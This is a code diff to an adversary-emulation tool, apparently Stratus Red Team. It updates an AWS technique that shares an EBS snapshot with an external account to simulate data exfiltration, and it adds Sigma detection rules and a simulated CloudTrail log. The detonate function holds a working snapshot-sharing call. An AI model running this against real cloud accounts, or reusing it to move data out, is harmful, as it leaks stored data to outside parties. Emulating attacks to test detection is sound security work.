@@ -1,20 +1,21 @@
 package aws
 
 import (
-	"context"
 	_ "embed"
 	"github.com/aws/aws-sdk-go-v2/service/ec2"
 	"github.com/aws/aws-sdk-go-v2/service/ec2/types"
-	"github.com/datadog/stratus-red-team/internal/providers"
 	"github.com/datadog/stratus-red-team/internal/utils"
 	"github.com/datadog/stratus-red-team/pkg/stratus"
+	"github.com/datadog/stratus-red-team/pkg/stratus/logs"
 	"github.com/datadog/stratus-red-team/pkg/stratus/mitreattack"
-	"log"
 )
 
 //go:embed main.tf
 var tf []byte
 
+//go:embed sigma.yml
+var sigma []byte
+
 func init() {
 	stratus.GetRegistry().RegisterAttackTechnique(&stratus.AttackTechnique{
 		ID:                 "aws.exfiltration.ec2-share-ebs-snapshot",
@@ -50,24 +51,27 @@ that the EBS snapshot was shared with a new or unknown AWS account, such as:
 An attacker can also make an EBS snapshot completely public. In this case, the <code>item</code> entry 
 will look like <code>{"groups":"all"}</code>. 
 `,
+		SigmaRules:                 sigma,
 		PrerequisitesTerraformCode: tf,
+		RequiredOutputs:            []string{"snapshot_id"},
 		Detonate:                   detonate,
+		Simulate:                   simulate,
 		Revert:                     revert,
 	})
 }
 
 var ShareWithAccountId = "012345678912"
 
-func detonate(params map[string]string) error {
-	ec2Client := ec2.NewFromConfig(providers.AWS().GetConnection())
+func detonate(execution *stratus.ExecutionContext) error {
+	ec2Client := ec2.NewFromConfig(execution.AWS.GetConnection())
 
 	// Find the snapshot to exfiltrate
-	ourSnapshotId := params["snapshot_id"]
+	ourSnapshotId := execution.Parameters["snapshot_id"]
 
 	// Exfiltrate it
-	log.Println("Sharing the volume snapshot " + ourSnapshotId + " with an external AWS account...")
+	execution.Logger.Println("Sharing the volume snapshot " + ourSnapshotId + " with an external AWS account...")
 
-	_, err := ec2Client.ModifySnapshotAttribute(context.Background(), &ec2.ModifySnapshotAttributeInput{
+	_, err := ec2Client.ModifySnapshotAttribute(execution.Context, &ec2.ModifySnapshotAttributeInput{
 		SnapshotId: &ourSnapshotId,
 		Attribute:  types.SnapshotAttributeNameCreateVolumePermission,
 		CreateVolumePermission: &types.CreateVolumePermissionModifications{
@@ -76,7 +80,7 @@ func detonate(params map[string]string) error {
 	})
 
 	if err != nil && utils.IsErrorDueToEBSEncryptionByDefault(err) {
-		log.Println("Note: Stratus detonated the attack, but the sharing was unsuccessful. " +
+		execution.Logger.Println("Note: Stratus detonated the attack, but the sharing was unsuccessful. " +
 			"This is likely because EBS default encryption is enabled in the region. " +
 			"Nonetheless, it did simulate a plausible attacker action.")
 		return nil
@@ -85,12 +89,12 @@ func detonate(params map[string]string) error {
 	return err
 }
 
-func revert(params map[string]string) error {
-	ec2Client := ec2.NewFromConfig(providers.AWS().GetConnection())
-	ourSnapshotId := params["snapshot_id"]
+func revert(execution *stratus.ExecutionContext) error {
+	ec2Client := ec2.NewFromConfig(execution.AWS.GetConnection())
+	ourSnapshotId := execution.Parameters["snapshot_id"]
 
-	log.Println("Unsharing the volume snapshot " + ourSnapshotId)
-	_, err := ec2Client.ModifySnapshotAttribute(context.Background(), &ec2.ModifySnapshotAttributeInput{
+	execution.Logger.Println("Unsharing the volume snapshot " + ourSnapshotId)
+	_, err := ec2Client.ModifySnapshotAttribute(execution.Context, &ec2.ModifySnapshotAttributeInput{
 		SnapshotId: &ourSnapshotId,
 		Attribute:  types.SnapshotAttributeNameCreateVolumePermission,
 		CreateVolumePermission: &types.CreateVolumePermissionModifications{
@@ -99,3 +103,16 @@ func revert(params map[string]string) error {
 	})
 	return err
 }
+
+// simulate generates the CloudTrail event of the snapshot being shared
+func simulate(simulation *stratus.SimulationContext) []stratus.LogRecord {
+	return []stratus.LogRecord{
+		logs.CloudTrailEvent(simulation, "ec2.amazonaws.com", "ModifySnapshotAttribute", map[string]interface{}{
+			"snapshotId":    "snap-" + utils.RandomHexString(17),
+			"attributeType": "CREATE_VOLUME_PERMISSION",
+			"createVolumePermission": map[string]interface{}{
+				"add": map[string]interface{}{"items": []interface{}{map[string]interface{}{"userId": ShareWithAccountId}}},
+			},
+		}),
+	}
+}